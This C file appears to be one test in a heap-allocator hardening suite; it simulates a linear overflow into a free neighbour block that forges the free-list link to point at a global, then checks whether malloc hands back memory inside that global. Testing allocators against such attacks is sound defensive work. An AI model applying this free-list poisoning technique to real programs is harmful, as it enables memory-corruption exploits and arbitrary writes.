/* overflow_into_free — a linear overflow from a live block runs into its free neighbour and
 * leaves a pointer to a global in the neighbour's first word (its free-list link). The bytes
 * between the live block's end and the neighbour (a header, if the allocator keeps one) are
 * written back with the values they held: the attacker read them first. The live block is
 * freed afterwards, so an allocator that checks a block's surroundings on free may notice.
 * SILENT: malloc returns an address inside the global within 4096 allocations. */
#include "attack.h"

static unsigned char target[256] __attribute__((aligned(64)));

int main(void) {
  unsigned char *a, *b;
  size_t stride = neighbours(ATTACK_SIZE, 256, &a, &b);
  unhold(b);
  free(b);
  unsigned char bytes[4096];
  if (stride + sizeof(void *) > sizeof bytes) setup_failed("stride %zu", stride);
  memcpy(bytes, a, stride);
  void *forged = target + 64;
  memcpy(bytes + stride, &forged, sizeof forged);
  memcpy(opaque(a), bytes, stride + sizeof forged); /* the overflow: stride + 8 bytes into a */
  unhold(a);
  free(a);
  void *r = hunt_for(ATTACK_SIZE, HUNT_MAX, target, sizeof target);
  if (r) silent("malloc returned %p, inside the global target %p", r, (void *)target);
  check_heap(ATTACK_SIZE, "after an overflow into a free neighbour");
  intact();
}
